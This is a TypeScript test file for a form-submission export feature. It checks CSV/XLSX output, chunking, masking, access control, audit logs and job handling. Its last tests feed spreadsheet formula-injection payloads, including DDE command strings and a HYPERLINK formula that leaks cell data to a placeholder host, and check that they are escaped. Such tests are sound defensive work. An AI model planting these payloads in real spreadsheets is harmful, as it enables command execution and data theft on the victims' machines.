import { eq, sql } from 'drizzle-orm'
import { strFromU8, unzipSync } from 'fflate'
import { expect, it, vi } from 'vitest'
import { csvOf } from '../../../../../src/contract/sheets/csv.ts'
import { formExport, formExportPart, formSubmission, job } from '../../../../../src/server/store/db/schema.ts'
import { runDue } from '../../../../../src/server/store/jobs/runner.ts'
import { readForm } from '../../../../../src/server/subjects/forms/definition/compile.ts'
import { openValues, sealValues } from '../../../../../src/server/subjects/forms/definition/sealing.ts'
import { dropExport } from '../../../../../src/server/subjects/forms/exports/exports.ts'
import { createWriteExport } from '../../../../../src/server/subjects/forms/exports/write-export.ts'
import { MOST_ROWS, xlsxWriter } from '../../../../../src/contract/sheets/xlsx.ts'
import { sweepUploads } from '../../../../../src/server/subjects/forms/uploads/uploads.ts'
import { FILLED, SURVEY } from '../../../../support/forms.ts'
import { testInbox } from '../../../../support/inbox.ts'
import { silent } from '../../../../support/log.ts'
import { dataOf, sessionHeaders, staffAccount } from '../../../../support/staff.ts'

const { server, send, db, work, lastLine, headers, others } = await testInbox()
const { secrets, uploads: store } = server
const writeExport = createWriteExport({ db, secrets, store })

interface Order {
  id: string
  state: string
  total: number | null
  done: number
  bytes: number
}

const order = async (body: object, as = headers) => {
  const answer = await work('export', { reason: '每周汇总', format: 'csv', ...body }, as)
  expect(answer.status).toBe(200)
  return dataOf<Order>(answer.body)
}
const ordersOf = async (formKey: string, as = headers) =>
  dataOf<Order[]>((await server.get(`/editor/submissions/exports?formKey=${formKey}`, as)).body)
const partOf = (formKey: string, exportId: string, part: number, as = headers) =>
  server.get(
    `/editor/submissions/export/part?${new URLSearchParams({ formKey, exportId, part: String(part) })}`,
    as,
  )

/** What was ordered, written and downloaded. */
async function file(body: { formKey: string }, as = headers) {
  const { id: exportId } = await order(body, as)
  await runDue(db, silent, { writeExport })
  const taken = await work('export/take', { formKey: body.formKey, exportId }, as)
  const { name, parts } = dataOf<{ name: string; parts: number }>(taken.body)
  const bytes: Buffer[] = []
  for (let part = 1; part <= parts; part += 1) {
    const answer = await partOf(body.formKey, exportId, part, as)
    bytes.push(Buffer.from(dataOf<{ bytes: string }>(answer.body).bytes, 'base64'))
  }
  return { exportId, name, parts, raw: Buffer.concat(bytes) }
}
const sheetIn = (raw: Uint8Array, number = 1) =>
  strFromU8(unzipSync(raw)[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array())

/** One sheet of texts as a file. */
function xlsxOf(sheet: readonly string[][]): Uint8Array {
  const writer = xlsxWriter(['Sheet1'])
  return Buffer.concat([...writer.add(sheet.map((cells) => ({ sheet: 0, cells }))), ...writer.end()])
}

it.each(['csv', 'xlsx'] as const)(
  '%s: no cell is a formula, sensitive ones are masked, and the log says who ordered it and who took it',
  async (format) => {
    await send('intention', { ...FILLED, name: '=HYPERLINK("x")', shops: [{ no: '@SUM(1)' }] })
    await send('intention', { ...FILLED, name: '＝1+1', subject: 'company', code: '91350100M000100Y43' })
    const written = async (body: object = {}) => {
      const wanted = { formKey: 'intention', ...body, format }
      const { raw, ...more } = await file(wanted)
      return { ...more, text: format === 'csv' ? raw.toString() : sheetIn(raw) + sheetIn(raw, 2) }
    }
    const { text, name, exportId } = await written()
    expect(name).toBe(`intention-2026-11-20.${format}`)
    expect(text).toContain(format === 'csv' ? `"'=HYPERLINK(""x"")"` : `>'=HYPERLINK("x")<`)
    expect(text).toContain("'@SUM(1)")
    expect(text).toContain("'＝1+1")
    expect(text).not.toContain('13800000000')
    expect(text).not.toMatch(/<f>|t="str"/)
    expect(await lastLine()).toMatchObject({
      action: 'submissions-export-taken',
      subject: 'intention',
      detail: { export: exportId, rows: '2' },
    })
    await order({ formKey: 'intention', state: 'received' })
    expect(await lastLine()).toMatchObject({
      action: 'submissions-exported',
      subject: 'intention',
      reason: '每周汇总',
      detail: { format: 'csv', open: 'false', state: 'received' },
    })
    expect((await written({ isOpen: true })).text).toContain('13800000000')
    expect((await written({ words: 'HYPERLINK' })).text).not.toContain('＝')
  },
)

it('a file has every submission, the oldest first, in parts of a megabyte, however many there are', async () => {
  const id = await send('survey', { overall: 5, why: '很好'.repeat(200) })
  const [one] = await db.select().from(formSubmission).where(eq(formSubmission.id, id))
  if (!one) throw new Error('it was not stored')
  const values = openValues(id, one, secrets)
  const copies = Array.from({ length: 2500 }, (_, at) => {
    const copy = String(at + 1)
    const createdAt = new Date(one.createdAt.getTime() + (at + 1) * 1000)
    const sealed = sealValues(readForm('survey', SURVEY).schema, values, copy, secrets)
    return { ...one, ...sealed, id: copy, number: copy, idempotencyKey: copy, createdAt }
  })
  for (let at = 0; at < copies.length; at += 500)
    await db.insert(formSubmission).values(copies.slice(at, at + 500))
  const { raw, parts } = await file({ formKey: 'survey' }, others)
  expect(parts).toBe(Math.ceil(raw.length / 1024 / 1024))
  expect(parts).toBeGreaterThan(2)
  const numbers = raw.toString().split('\r\n').slice(2, -1)
  expect(numbers.map((line) => line.split(',')[0])).toEqual(
    Array.from({ length: 2500 }, (_, n) => String(n + 1)),
  )
  expect(raw.toString().match(/\uFEFF/g)).toHaveLength(1)
  expect(await ordersOf('survey', others)).toMatchObject([
    { state: 'done', total: 2501, done: 2501, bytes: raw.length },
  ])
})

it('only who ordered a file finds and takes it, and reads it only after the log was told', async () => {
  await send('intention', FILLED)
  const { id: exportId } = await order({ formKey: 'intention' })
  await runDue(db, silent, { writeExport })
  const colleague = await sessionHeaders(
    db,
    await staffAccount(db, '钱同事', [{ columnKey: 'shops', role: 'clerk' }]),
  )
  const mine = { formKey: 'intention', exportId }
  expect(await ordersOf('intention', colleague)).toEqual([])
  expect((await work('export/take', mine, colleague)).status).toBe(404)
  expect((await work('export/remove', mine, colleague)).status).toBe(404)
  expect((await work('export/take', { ...mine, formKey: 'survey' }, others)).status).toBe(404)
  expect((await partOf('intention', exportId, 1)).status).toBe(409)
  expect((await work('export/take', mine)).status).toBe(200)
  expect((await partOf('intention', exportId, 1)).status).toBe(200)
  expect((await partOf('intention', exportId, 2)).status).toBe(404)
  expect((await partOf('intention', exportId, 1, colleague)).status).toBe(404)
  await db.execute(sql`update form_export set taken_at = taken_at - interval '61 minutes'`)
  expect((await partOf('intention', exportId, 1)).status).toBe(409)
})

it('the words that somebody searched for stand sealed in the order, and its file sealed in the store', async () => {
  await send('intention', FILLED)
  await order({ formKey: 'intention', words: '13800000000', isOpen: true })
  await runDue(db, silent, { writeExport })
  const [row] = await db.select().from(formExport)
  expect(JSON.stringify(row)).not.toContain('13800000000')
  const [part] = await db.select().from(formExportPart)
  expect((await store.get(part?.storeKey ?? ''))?.toString()).not.toContain('13800000000')
  await sweepUploads({ db, store })
  expect(await store.get(part?.storeKey ?? '')).toBeDefined()
})

it('a file that is cancelled while it is written leaves nothing, and the next one is written', async () => {
  await send('intention', FILLED)
  const { id: exportId } = await order({ formKey: 'intention' })
  const kept = (await store.keys()).length
  // Cancelled between its first part and the end.
  const put = vi.spyOn(store, 'put').mockImplementationOnce(async (key, bytes) => {
    put.mockRestore()
    expect((await work('export/remove', { formKey: 'intention', exportId })).status).toBe(200)
    await store.put(key, bytes)
  })
  await runDue(db, silent, { writeExport })
  expect((await store.keys()).length).toBe(kept)
  expect(await ordersOf('intention')).toEqual([])
  expect(await db.select().from(formExportPart)).toEqual([])
  expect(await db.select().from(job).where(eq(job.name, 'writeExport'))).toEqual([])
  expect((await file({ formKey: 'intention' })).parts).toBe(1)
})

it('a process that ends puts its file down, and another writes it from the beginning', async () => {
  await send('intention', FILLED)
  const { id: exportId } = await order({ formKey: 'intention' })
  await expect(writeExport({ exportId }, AbortSignal.abort())).rejects.toThrow('aborted')
  expect(await ordersOf('intention')).toMatchObject([{ state: 'running' }])
  await writeExport({ exportId })
  expect(await ordersOf('intention')).toMatchObject([{ state: 'done', total: 1, done: 1 }])
})

it('a process that another one has replaced writes no part of the file, and says nothing of it', async () => {
  await send('intention', FILLED)
  const { id: exportId } = await order({ formKey: 'intention' })
  const kept = new Set(await store.keys())
  // It stalls with its only part; another process takes the job over and writes the file; then it goes on.
  const put = vi.spyOn(store, 'put').mockImplementationOnce(async (key, bytes) => {
    put.mockRestore()
    await writeExport({ exportId })
    await store.put(key, bytes)
  })
  await writeExport({ exportId })
  const parts = await db.select().from(formExportPart).where(eq(formExportPart.exportId, exportId))
  expect((await store.keys()).filter((key) => !kept.has(key))).toEqual(parts.map(({ storeKey }) => storeKey))
  expect(await ordersOf('intention')).toMatchObject([{ state: 'done', total: 1, done: 1 }])
  expect((await work('export/take', { formKey: 'intention', exportId })).body?.data).toMatchObject({
    parts: 1,
  })
  expect((await partOf('intention', exportId, 1)).status).toBe(200)
})

it('a process that was replaced while the other one still writes does not finish the file for it', async () => {
  await send('intention', FILLED)
  const { id: exportId } = await order({ formKey: 'intention' })
  const put = vi.spyOn(store, 'put').mockImplementationOnce(async (key, bytes) => {
    put.mockRestore()
    // The other one has begun, and is put down before its first part.
    await expect(writeExport({ exportId }, AbortSignal.abort())).rejects.toThrow('aborted')
    await store.put(key, bytes)
  })
  await writeExport({ exportId })
  expect(await ordersOf('intention')).toMatchObject([{ state: 'running' }])
  await writeExport({ exportId })
  expect(await ordersOf('intention')).toMatchObject([{ state: 'done', total: 1, done: 1 }])
})

it('a file that cannot be written says so, and is not tried without end', async () => {
  await send('intention', FILLED)
  await order({ formKey: 'intention' })
  vi.spyOn(store, 'put').mockRejectedValueOnce(new Error('no space left'))
  await runDue(db, silent, { writeExport })
  expect(await ordersOf('intention')).toMatchObject([{ state: 'failed' }])
  await db.update(job).set({ runAt: sql`now()` })
  await runDue(db, silent, { writeExport })
  expect(await ordersOf('intention')).toMatchObject([{ state: 'failed' }])
  expect(await db.select().from(job).where(eq(job.name, 'writeExport'))).toEqual([])
})

it('after a day a file is found no more, and its bytes are removed', async () => {
  await send('intention', FILLED)
  const { exportId } = await file({ formKey: 'intention' })
  const [part] = await db.select().from(formExportPart)
  const [due] = await db.select().from(job).where(eq(job.name, 'dropExport'))
  const [row] = await db.select().from(formExport)
  expect(due?.runAt.getTime()).toBe((row?.createdAt.getTime() ?? 0) + 86_400_000)
  await db.execute(sql`update form_export set created_at = created_at - interval '1 day'`)
  expect(await ordersOf('intention')).toEqual([])
  expect((await work('export/take', { formKey: 'intention', exportId })).status).toBe(404)
  await dropExport({ db, store }, exportId)
  expect(await store.get(part?.storeKey ?? '')).toBeUndefined()
  expect(await db.$count(formExport)).toBe(0)
})

it('somebody who has three files written at once waits, or cancels one', async () => {
  const orders = [await order({ formKey: 'intention' }), await order({ formKey: 'intention' })]
  orders.push(await order({ formKey: 'intention' }))
  const body = { formKey: 'intention', format: 'csv', reason: '每周汇总' }
  const refused = await work('export', body)
  expect([refused.status, Reflect.get(refused.body ?? {}, 'reason')]).toEqual([409, 'exports'])
  await work('export/remove', { formKey: 'intention', exportId: orders[0]?.id })
  expect((await work('export', body)).status).toBe(200)
  await order({ formKey: 'survey' }, others)
})

it('an export asks for the second factor, or the password, again', async () => {
  await db.execute(sql`update staff_session set confirmed_at = now() - interval '1 hour'`)
  const answer = await work('export', { formKey: 'intention', format: 'csv', reason: '每周汇总' })
  expect([answer.status, Reflect.get(answer.body ?? {}, 'reason')]).toEqual([403, 'confirm'])
  await db.execute(sql`update staff_session set confirmed_at = now()`)
})

it('a sheet is as programs that read it ask: rows from one, no cell longer than 32,767 letters', () => {
  const sheet = sheetIn(xlsxOf([['编号'], ['A & B'], ['长'.repeat(40_000)]]))
  const rows = [...sheet.matchAll(/<row r="(\d+)">.*?<t[^>]*>(.*?)<\/t>/g)]
  expect(rows.map(([, number, cell]) => [number, cell])).toEqual([
    ['1', '编号'],
    ['2', 'A &amp; B'],
    ['3', '长'.repeat(32_767)],
  ])
})

it('a sheet that is full takes no more rows, and says how many are left out', () => {
  const writer = xlsxWriter(['Sheet1'])
  const row = { sheet: 0, cells: [] }
  const rows = Array.from({ length: 65_536 }, () => row)
  for (let times = 0; times < MOST_ROWS / rows.length; times += 1) writer.add(rows)
  expect(writer.leftOut()).toBe(0)
  writer.add([row, row])
  expect(writer.leftOut()).toBe(2)
})

it.each([
  '=1+1',
  '+cmd|x',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r\n=1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '\u3000＝1',
  '＋1+1',
  '－1-1',
  '＠x',
  '﹦1',
  '﹢1+1',
  '﹣1-1',
  '﹫x',
  '⁼1',
  '−1+1',
  "=cmd|' /C calc'!A0",
  '+1(2)',
  '-1e5',
  '=HYPERLINK("https://x/?"&A1)',
])('as a title or an answer, %j is no formula', (text) => {
  const [titles = '', answers = ''] = csvOf([
    ['编号', text],
    ['1', text],
  ]).split(/\r\n(?=1,)/)
  for (const row of [titles, answers]) expect(row).toMatch(/^\ufeff?[^,]+,"?'/)
  const sheet = sheetIn(xlsxOf([[text], [text]]))
  expect(sheet.match(/<c t="inlineStr"( s="4")?><is><t[^>]*>'/g)).toHaveLength(2)
  expect(sheet).not.toMatch(/<f>|t="str"/)
})

it.each(['-1', '+1.5', '0', '2026-11-22', '13800000000', 'a=b', '（=1）'])('%j stays as it is', (text) => {
  expect(csvOf([[text]])).toBe(`\uFEFF${text}\r\n`)
})
